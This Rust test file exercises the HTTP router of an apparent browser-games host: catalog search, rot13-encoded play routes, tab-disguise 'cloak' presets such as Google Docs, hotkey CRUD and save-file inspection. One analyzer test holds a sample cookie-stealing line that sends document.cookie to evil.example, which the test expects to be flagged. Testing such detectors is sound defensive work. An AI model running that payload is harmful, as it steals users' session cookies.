// ABOUTME: Router tests for the HTTP host service driven through tower's oneshot
// ABOUTME: Covers the catalog API, rot13 play route, settings, hotkey CRUD and save inspection

#![cfg(feature = "server")]

use async_trait::async_trait;
use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use http_body_util::BodyExt;
use kittengames::app::App;
use kittengames::config::Config;
use kittengames::server::{router, HOTKEYS_HELPER_JS};
use kittengames_core::catalog::{CatalogEntry, CatalogError, CatalogSource};
use kittengames_core::save::{encode, GameData, SaveBundle};
use kittengames_core::storage::MemoryStore;
use serde_json::{json, Value};
use std::sync::Arc;
use tower::ServiceExt;

struct FixedCatalog(Vec<CatalogEntry>);

#[async_trait]
impl CatalogSource for FixedCatalog {
    async fn fetch(&self) -> Result<Vec<CatalogEntry>, CatalogError> {
        Ok(self.0.clone())
    }
}

fn entry(name: &str, path: &str, added: Option<&str>) -> CatalogEntry {
    CatalogEntry {
        name: name.to_string(),
        kind: "game".to_string(),
        image: format!("/img/{}.png", name.to_lowercase()),
        url: None,
        path: Some(path.to_string()),
        newtab: None,
        added: added.map(str::to_string),
    }
}

fn test_app() -> Arc<App> {
    let source = FixedCatalog(vec![
        entry("Retro Bowl", "games/retro-bowl/index.html", Some("2025-03-01")),
        entry("Slope", "games/slope/index.html", None),
    ]);
    let mut config = Config::default();
    config.catalog.base_url = Some("https://games.example.com/".to_string());
    Arc::new(App::with_parts(config, MemoryStore::shared(), Arc::new(source)).unwrap())
}

async fn send(app: &Arc<App>, request: Request<Body>) -> (StatusCode, Vec<u8>) {
    let response = router(app.clone()).oneshot(request).await.unwrap();
    let status = response.status();
    let body = response.into_body().collect().await.unwrap().to_bytes();
    (status, body.to_vec())
}

async fn get_json(app: &Arc<App>, uri: &str) -> (StatusCode, Value) {
    let (status, body) = send(app, Request::get(uri).body(Body::empty()).unwrap()).await;
    (status, serde_json::from_slice(&body).unwrap_or(Value::Null))
}

async fn send_json(app: &Arc<App>, method: &str, uri: &str, body: Value) -> (StatusCode, Value) {
    let request = Request::builder()
        .method(method)
        .uri(uri)
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(body.to_string()))
        .unwrap();
    let (status, body) = send(app, request).await;
    (status, serde_json::from_slice(&body).unwrap_or(Value::Null))
}

// =============================================================================
// Catalog
// =============================================================================

#[tokio::test]
async fn test_health() {
    let app = test_app();
    let (status, body) = send(&app, Request::get("/health").body(Body::empty()).unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body, b"ok");
}

#[tokio::test]
async fn test_games_include_slug_and_play_path() {
    let app = test_app();
    let (status, body) = get_json(&app, "/api/games").await;
    assert_eq!(status, StatusCode::OK);

    let games = body.as_array().unwrap();
    assert_eq!(games.len(), 2);
    assert_eq!(games[0]["name"], "Retro Bowl");
    assert_eq!(games[0]["type"], "game");
    assert_eq!(games[0]["slug"], "retro-bowl");
    assert_eq!(games[0]["playPath"], "/play/ergeb-objy");
}

#[tokio::test]
async fn test_games_query_filters_by_name() {
    let app = test_app();
    let (_, body) = get_json(&app, "/api/games?q=slo").await;
    let games = body.as_array().unwrap();
    assert_eq!(games.len(), 1);
    assert_eq!(games[0]["name"], "Slope");
}

#[tokio::test]
async fn test_unknown_game_is_404() {
    let app = test_app();
    let (status, body) = get_json(&app, "/api/games/minecraft").await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(body["error"].as_str().unwrap().contains("minecraft"));
}

#[tokio::test]
async fn test_play_route_decodes_rot13_and_frames_the_game() {
    let app = test_app();
    app.settings.set_cloak_preset("google-docs").unwrap();

    let (status, body) = send(
        &app,
        Request::get("/play/fybcr").body(Body::empty()).unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let html = String::from_utf8(body).unwrap();
    assert!(html.contains(r#"<iframe src="https://games.example.com/games/slope/index.html""#));
    assert!(html.contains("<title>Google Docs</title>"));
}

#[tokio::test]
async fn test_play_route_unknown_code_is_404() {
    let app = test_app();
    let (status, _) = send(
        &app,
        Request::get("/play/zvarpensg").body(Body::empty()).unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn test_helper_script_is_served_as_javascript() {
    let app = test_app();
    let response = router(app)
        .oneshot(Request::get("/hotkeys-helper.js").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let content_type = response.headers()[header::CONTENT_TYPE].to_str().unwrap();
    assert!(content_type.starts_with("application/javascript"));
    let body = response.into_body().collect().await.unwrap().to_bytes();
    let script = String::from_utf8(body.to_vec()).unwrap();
    assert!(script.contains("kittengames-hotkey-request"));
}

#[test]
fn test_helper_script_dumps_indexeddb_and_cleans_up() {
    let script = HOTKEYS_HELPER_JS;
    assert!(script.contains("indexedDB.databases()"));
    assert!(script.contains("createObjectStore"));
    assert!(!script.contains("indexedDB: {}"));
    assert!(script.contains("event.source !== window.parent"));
    assert!(script.contains("\"pagehide\""));
    for (event, handler) in [
        ("keydown", "onKeyDown"),
        ("keyup", "onKeyUp"),
        ("blur", "onBlur"),
        ("message", "onMessage"),
    ] {
        let added = format!("addEventListener(\"{}\", {}", event, handler);
        let removed = format!("removeEventListener(\"{}\", {}", event, handler);
        assert!(script.contains(&added), "{} is not a named listener", event);
        assert!(script.contains(&removed), "{} listener is never removed", event);
    }
}

// =============================================================================
// Settings
// =============================================================================

#[tokio::test]
async fn test_launch_settings_round_trip_through_api() {
    let app = test_app();
    let (_, initial) = get_json(&app, "/api/settings/launch").await;
    assert_eq!(initial, json!({"openMode": "same-tab", "confirmClose": false}));

    let (status, updated) = send_json(
        &app,
        "PUT",
        "/api/settings/launch",
        json!({"openMode": "about-blank", "confirmClose": true}),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(updated["openMode"], "about-blank");
    assert!(app.settings.launch().confirm_close);
}

#[tokio::test]
async fn test_legacy_html_blob_mode_is_accepted_as_same_tab() {
    let app = test_app();
    let (status, updated) = send_json(
        &app,
        "PUT",
        "/api/settings/launch",
        json!({"openMode": "html-blob", "confirmClose": false}),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(updated["openMode"], "same-tab");
}

#[tokio::test]
async fn test_cloak_preset_then_custom_name() {
    let app = test_app();
    let (status, cloak) = send_json(
        &app,
        "PUT",
        "/api/settings/cloak",
        json!({"preset": "canvas", "tabName": "Quiz 4"}),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(cloak["presetName"], "canvas");
    assert_eq!(cloak["tabName"], "Quiz 4");

    let (status, _) = send_json(
        &app,
        "PUT",
        "/api/settings/cloak",
        json!({"preset": "myspace"}),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
}

// =============================================================================
// Hotkeys
// =============================================================================

#[tokio::test]
async fn test_hotkey_crud_and_conflicts() {
    let app = test_app();
    let (_, seeded) = get_json(&app, "/api/hotkeys").await;
    let seeded = seeded.as_array().unwrap().len();

    let (status, first) = send_json(
        &app,
        "POST",
        "/api/hotkeys",
        json!({"keys": ["Ctrl", "q"], "action": {"type": "redirect", "url": "/"}}),
    )
    .await;
    assert_eq!(status, StatusCode::CREATED);
    assert!(first["conflicts"].as_array().unwrap().is_empty());
    let first_id = first["hotkey"]["id"].as_str().unwrap().to_string();

    let (_, second) = send_json(
        &app,
        "POST",
        "/api/hotkeys",
        json!({"keys": ["q", "Control"], "action": {"type": "refresh"}}),
    )
    .await;
    assert_eq!(second["conflicts"], json!([first_id.clone()]));

    let (status, toggled) = send_json(
        &app,
        "POST",
        &format!("/api/hotkeys/{}/toggle", first_id),
        json!({}),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(toggled["hotkey"]["enabled"], false);

    let (status, _) = send(
        &app,
        Request::delete(format!("/api/hotkeys/{}", first_id))
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::NO_CONTENT);

    let (_, listed) = get_json(&app, "/api/hotkeys").await;
    assert_eq!(listed.as_array().unwrap().len(), seeded + 1);
}

#[tokio::test]
async fn test_hotkey_without_keys_is_rejected() {
    let app = test_app();
    let (status, body) = send_json(
        &app,
        "POST",
        "/api/hotkeys",
        json!({"keys": [], "action": {"type": "back"}}),
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body["error"].as_str().unwrap().contains("at least one key"));
}

#[tokio::test]
async fn test_update_missing_hotkey_is_404() {
    let app = test_app();
    let (status, _) = send_json(
        &app,
        "PUT",
        "/api/hotkeys/hk-0-0",
        json!({"keys": ["F2"], "action": {"type": "fullscreen"}}),
    )
    .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn test_analyze_flags_cookie_access() {
    let app = test_app();
    let (status, body) = send_json(
        &app,
        "POST",
        "/api/hotkeys/analyze",
        json!({"script": "fetch('https://evil.example/?c=' + document.cookie)"}),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let findings = body["findings"].as_array().unwrap();
    assert_eq!(findings[0]["severity"], "high");
    assert_eq!(findings[0]["pattern"], "document.cookie");
}

// =============================================================================
// Saves
// =============================================================================

fn post_bytes(uri: &str, bytes: Vec<u8>) -> Request<Body> {
    Request::post(uri)
        .header(header::CONTENT_TYPE, "application/octet-stream")
        .body(Body::from(bytes))
        .unwrap()
}

#[tokio::test]
async fn test_inspect_valid_save() {
    let app = test_app();
    let mut data = GameData::default();
    data.local_storage
        .insert("retro-bowl-season".to_string(), "4".to_string());
    data.cookies.insert("volume".to_string(), "0.5".to_string());
    let bundle = SaveBundle::new(
        data,
        "Mozilla/5.0",
        "https://games.example.com/",
        chrono::Utc::now(),
    );
    let file = encode(&bundle).unwrap();

    let (status, body) = send(&app, post_bytes("/api/saves/inspect", file.contents.into_bytes())).await;
    assert_eq!(status, StatusCode::OK);
    let summary: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(summary["scope"], "allgames");
    assert_eq!(summary["localStorageKeys"], 1);
    assert_eq!(summary["cookies"], 1);
}

#[tokio::test]
async fn test_inspect_distinguishes_rejection_reasons() {
    let app = test_app();

    let (status, body) = send(
        &app,
        post_bytes("/api/saves/inspect", br#"{"hello": "world"}"#.to_vec()),
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    let body: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(body["kind"], "not-a-save-file");

    let other_scope = br#"{"metadata":{"scope":"singlegame","timestamp":"","date":"","version":"1.0","userAgent":"","url":""},"gameData":{}}"#;
    let (_, body) = send(&app, post_bytes("/api/saves/inspect", other_scope.to_vec())).await;
    let body: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(body["kind"], "scope-mismatch");

    let (_, body) = send(&app, post_bytes("/api/saves/inspect", b"{ nope".to_vec())).await;
    let body: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(body["kind"], "corrupt");
}
